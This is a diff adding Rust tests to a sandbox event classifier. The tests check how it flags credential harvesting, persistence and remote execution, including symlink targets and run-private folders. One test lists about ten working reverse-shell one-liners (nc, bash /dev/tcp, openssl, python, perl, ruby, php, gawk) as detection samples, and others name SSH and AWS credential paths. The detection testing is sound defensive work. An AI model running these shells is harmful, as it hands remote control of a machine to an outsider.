@@ -1,6 +1,6 @@
 //! Attacks that need more than a table.
 
-use skillsandbox_tracer::{Classifier, Verdict};
+use skillsandbox_tracer::{Classifier, Event, Verdict, What};
 
 use crate::script::{classify, event, of, spelt};
 
@@ -39,6 +39,45 @@ fn detours_lead_to_the_same() {
         "denied symlink /tmp/x /home/u/.ssh/id_rsa by /bin/ln",
     ] {
         assert!(of(&[line]).iter().any(|one| spelt(one.class) == "credential_harvesting"), "{line}");
+    }
+}
+
+/// A link has any name; where it leads is what counts.
+#[test]
+fn links_lead_to_the_same() {
+    for (line, real, class) in [
+        ("denied read /tmp/l/credentials by /bin/cat", "/home/u/.aws/credentials", "credential_harvesting"),
+        ("denied read /work/data by /bin/cat", "/home/u/.ssh/id_rsa", "credential_harvesting"),
+        ("allowed write /tmp/x by /bin/sh", "/home/u/.bashrc", "persistence"),
+        ("denied read /tmp/r by /bin/cat", "/home/u/letter", "unauthorized_file_access"),
+        // What it is called says what was meant.
+        ("denied read /home/u/.ssh/id_rsa by /bin/cat", "/mnt/keys/1", "credential_harvesting"),
+    ] {
+        let led = event(line).leading_to(real.to_owned());
+        let (_, all) = classify([led]);
+        assert!(all.iter().any(|one| spelt(one.class) == class), "{line}: {all:?}");
+    }
+}
+
+/// What is written in a folder that only the run has does not stay, whatever it is called. What leads out of it does.
+#[test]
+fn what_is_gone_with_the_run_is_no_persistence() {
+    let private = || "/home/skill, private to the run".to_owned();
+    for (line, rule, real, expected) in [
+        ("allowed write /home/skill/.bashrc by /bin/sh", private(), None, false),
+        ("allowed rename /tmp/x /home/skill/.bashrc by /bin/mv", private(), None, false),
+        ("allowed write /home/skill/.bashrc by /bin/sh", private(), Some("/home/u/.bashrc"), true),
+        ("allowed write /home/skill/../u/.bashrc by /bin/sh", private(), None, true),
+        ("allowed write /home/u/.bashrc by /bin/sh", private(), None, true),
+        ("allowed write /home/u/.bashrc by /bin/sh", "/home/u".to_owned(), None, true),
+        ("allowed write /home/u/.bashrc by /bin/sh", ", private to the run".to_owned(), None, true),
+        ("denied write /home/skill/.bashrc by /bin/sh", private(), None, true),
+    ] {
+        let mut event = event(line);
+        event.rule = Some(rule);
+        event.leads_to = real.map(str::to_owned);
+        let (_, all) = classify([event]);
+        assert_eq!(all.iter().any(|one| spelt(one.class) == "persistence"), expected, "{line}: {all:?}");
     }
 }
 
@@ -215,5 +254,59 @@ fn a_call_that_was_let_pass_was_not_prevented_whatever_else_is_said() {
     for verdict in [None, Some(Verdict::Denied), Some(Verdict::Allowed)] {
         call.verdict = verdict;
         assert!(!classify([call.clone()]).1[0].prevented, "{verdict:?}");
+    }
+}
+
+/// Shells for somebody far away, as they are handed around.
+#[test]
+fn row_141_shells_for_somebody_far_away() {
+    for argv in [
+        &["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1234 >/tmp/f"][..],
+        &[
+            "sh",
+            "-c",
+            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s",
+        ],
+        &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"],
+        &["bash", "-c", "exec 5<>/dev/tcp/192.0.2.1/443;cat <&5 | while read l; do $l 2>&5 >&5; done"],
+        &[
+            "python3",
+            "-c",
+            "import socket,subprocess,os;s=socket.socket();s.connect(('a',1));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['sh','-i'])",
+        ],
+        &[
+            "python3",
+            "-c",
+            "import socket,subprocess;s=socket.socket();subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s)",
+        ],
+        &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('/bin/sh -i')"],
+        &["ruby", "-rsocket", "-e", "f=TCPSocket.open('a',1).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)"],
+        &["php", "-r", "$s=fsockopen('a',1);exec('/bin/sh -i <&3 >&3 2>&3');"],
+        &["gawk", "BEGIN{s=\"/inet/tcp/0/192.0.2.1/4444\";while(1){s|&getline c;while(c|&getline)print|&s}}"],
+    ] {
+        let path = format!("/usr/bin/{}", argv[0]);
+        let argv: Vec<String> = argv.iter().map(|word| (*word).to_owned()).collect();
+        let event = Event::new(What::Exec { path, argv: argv.clone() }).judged(Verdict::Allowed, None);
+        let (_, all) = classify([event]);
+        assert!(all.iter().any(|one| spelt(one.class) == "remote_execution"), "{argv:?}: {all:?}");
+    }
+}
+
+/// What looks like one of them and is none.
+#[test]
+fn row_142_sockets_and_shells_of_honest_programs() {
+    for argv in [
+        &["python3", "-c", "import socket; print(socket.gethostname())"][..],
+        &["python3", "-c", "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])"],
+        &["sh", "-c", "mkfifo /tmp/p; sort /tmp/p & cat list > /tmp/p"],
+        &["bash", "-ic", "echo hello"],
+        &["node", "-e", "require('net').createServer(s => s.end()).listen(0)"],
+        &["gawk", "BEGIN{print \"/inet/tcp/\"}"],
+    ] {
+        let path = format!("/usr/bin/{}", argv[0]);
+        let argv: Vec<String> = argv.iter().map(|word| (*word).to_owned()).collect();
+        let event = Event::new(What::Exec { path, argv: argv.clone() }).judged(Verdict::Allowed, None);
+        let (_, all) = classify([event]);
+        assert!(all.is_empty(), "{argv:?}: {all:?}");
     }
 }
